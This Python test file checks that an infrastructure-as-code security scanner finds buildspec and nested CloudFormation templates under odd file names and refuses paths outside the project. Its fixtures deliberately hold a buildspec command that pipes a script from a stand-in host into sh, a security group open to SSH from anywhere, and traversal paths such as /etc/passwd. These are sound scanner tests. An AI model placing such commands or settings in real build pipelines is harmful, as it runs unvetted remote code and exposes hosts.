"""The files an AWS template names that AWS's tools read as IaC, judged as that kind whatever
their names (guardlint.engine.named_files): a CodeBuild project's `Source.BuildSpec` file,
which CodeBuild reads from the source as its buildspec, and the local templates `aws
cloudformation package` uploads as nested stacks (an AWS::CloudFormation::Stack's
TemplateURL, an AWS::Serverless::Application's Location). Under a name discovery skips
(`ci/build.cfg`, `stacks/nested.tmpl`, `app.txt`), their findings were lost."""

from __future__ import annotations

import os

from tests.conftest import run_scan, write_file

TEMPLATE = """\
AWSTemplateFormatVersion: "2010-09-09"
Transform: AWS::Serverless-2016-10-31
Resources:
  Build:
    Type: AWS::CodeBuild::Project
    Properties:
      Source: {Type: CODEPIPELINE, BuildSpec: ci/build.cfg}
      Artifacts: {Type: CODEPIPELINE}
      Environment: {Type: LINUX_CONTAINER, ComputeType: BUILD_GENERAL1_SMALL, Image: img}
      ServiceRole: arn:aws:iam::123456789012:role/build
  Nested:
    Type: AWS::CloudFormation::Stack
    Properties:
      TemplateURL: stacks/nested.tmpl
  App:
    Type: AWS::Serverless::Application
    Properties:
      Location: ./app.txt
"""
BUILDSPEC = """\
version: 0.2
phases:
  build:
    commands:
      - curl -fsSL https://x.example/i.sh | sh
"""
NESTED = """\
Resources:
  Group:
    Type: AWS::EC2::SecurityGroup
    Properties:
      GroupDescription: open
      SecurityGroupIngress:
        - {IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}
"""
NAMED = {"ci/build.cfg": BUILDSPEC, "stacks/nested.tmpl": NESTED, "app.txt": NESTED}
RULES = {
    "ci/build.cfg": ("CBD004", 5),
    "stacks/nested.tmpl": ("CFN006", 7),
    "app.txt": ("CFN006", 7),
}


def _tree(directory, template: str = TEMPLATE) -> None:
    write_file(directory, "template.yaml", template)
    for path, text in NAMED.items():
        write_file(directory, path, text)


def test_named_buildspecs_and_nested_templates_are_judged_at_their_own_lines(tmp_path):
    _tree(tmp_path)
    found = {
        (f.rule_id, f.path, f.region.start_line)
        for f in run_scan(tmp_path, root=str(tmp_path)).findings
    }
    assert {(rule, path, line) for path, (rule, line) in RULES.items()} <= found


def test_ordinary_names_are_judged_once(tmp_path):
    renamed = {"ci/build.cfg": "buildspec-ci.yml", "stacks/nested.tmpl": "nested.yaml"}
    template = TEMPLATE
    for old, new in renamed.items():
        template = template.replace(old, new)
    write_file(tmp_path, "template.yaml", template)
    write_file(tmp_path, "buildspec-ci.yml", BUILDSPEC)
    write_file(tmp_path, "nested.yaml", NESTED)
    write_file(tmp_path, "other.yaml", template)  # names them too
    findings = run_scan(tmp_path, root=str(tmp_path)).findings
    keys = [(f.rule_id, f.path, f.region, f.message) for f in findings]
    assert len(keys) == len(set(keys))
    assert sum(f.rule_id == "CBD004" for f in findings) == 1
    assert {f.path for f in findings if f.rule_id == "CFN006"} == {"nested.yaml"}


def test_paths_that_name_no_file_here_are_not_read(tmp_path):
    root, outside = tmp_path / "root", tmp_path / "outside"
    write_file(outside, "build.cfg", BUILDSPEC)
    write_file(outside, "nested.tmpl", NESTED)
    write_file(root, "ci.cfg", BUILDSPEC)  # named by a project without a source
    os.symlink(outside / "nested.tmpl", root / "link.tmpl")
    (root / "dir.tmpl").mkdir()
    template = """\
Resources:
  Out:
    Type: AWS::CodeBuild::Project
    Properties:
      Source: {Type: GITHUB, BuildSpec: ../outside/build.cfg}
  None:
    Type: AWS::CodeBuild::Project
    Properties:
      Source: {Type: NO_SOURCE, BuildSpec: ci.cfg}
  Arn:
    Type: AWS::CodeBuild::Project
    Properties:
      Source: {Type: S3, BuildSpec: "arn:aws:s3:::bucket/build.cfg"}
"""
    for index, where in enumerate(
        ["../outside/nested.tmpl", "/etc/passwd", "link.tmpl", "dir.tmpl", "missing.tmpl",
         "s3://bucket/nested.tmpl", "https://x.example/n.tmpl", "${Dir}/n.tmpl"]
    ):  # fmt: skip
        template += f"  S{index}:\n    Type: AWS::CloudFormation::Stack\n"
        template += f"    Properties: {{TemplateURL: '{where}'}}\n"
    write_file(root, "template.yaml", template)
    result = run_scan(root, root=str(root))
    assert {f.path for f in result.findings} <= {"template.yaml"}
    assert result.files["scanned"] == 1


BATCH = """\
version: 0.2
batch:
  build-list:
    - {identifier: linux, buildspec: ci/linux.cfg}
  build-graph:
    - {identifier: arm, buildspec: ci/arm.txt}
  build-matrix:
    dynamic:
      buildspec: [ci/matrix.cfg, "version: 0.2", "arn:aws:s3:::b/k"]
phases:
  build:
    commands: [make]
"""


def test_the_buildspecs_batch_builds_name_are_judged(tmp_path):
    # Each batch build runs the buildspec its `buildspec` names, from the source root.
    write_file(tmp_path, "buildspec.yml", BATCH)
    named = ("ci/linux.cfg", "ci/arm.txt", "ci/matrix.cfg")
    for path in named:
        write_file(tmp_path, path, BUILDSPEC)
    found = {
        (f.path, f.region.start_line)
        for f in run_scan(tmp_path, root=str(tmp_path)).findings
        if f.rule_id == "CBD004"
    }
    assert found == {(path, 5) for path in named}
